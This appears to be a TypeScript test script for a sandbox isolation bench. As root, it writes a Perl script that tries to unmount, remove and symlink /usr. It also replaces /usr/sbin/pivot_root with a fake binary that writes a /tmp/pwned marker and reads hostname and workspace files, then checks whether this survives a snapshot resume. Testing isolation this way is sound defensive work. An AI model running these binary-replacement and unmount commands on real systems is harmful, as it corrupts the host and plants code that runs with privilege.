import { IsolationBench } from "./isolation-bench.ts";
import { makeNamespaces } from "./namespaces-bench.ts";
setInterval(() => {}, 1000);
const bench = await IsolationBench.make(await makeNamespaces());
const show = async (root: any, line: string, o: any = {}) => {
  const r = await bench.sh(root, line, o);
  console.log(">", line.slice(0, 100), r.exitCode, r.stdout, r.stderr);
};

const c = await bench.prepare();
await show(
  c,
  `cat > /tmp/x.pl <<'X'
my $u="/usr"; print syscall(166,$u,2), " $!\n"; rmdir $u or print "rmdir $!\n"; symlink($u,$u) or print "sym $!\n"; 
X
rm -f /usr/sbin/pivot_root; printf '#!/bin/sh\nid >/tmp/pwned; cat /etc/hostname; ls /work >&2; exit 3\n' > /usr/sbin/pivot_root; chmod 755 /usr/sbin/pivot_root; perl /tmp/x.pl`,
  { sudo: true },
);
await c.halt({ graceMs: 0 });
await c.capture("snap_x2");
try {
  const b = await bench.prepare({ snapshotId: "snap_x2" });
  await show(b, "ls -la /usr");
} catch (e) {
  console.log("resume 2", String(e));
}
await bench[Symbol.asyncDispose]();
process.exit(0);
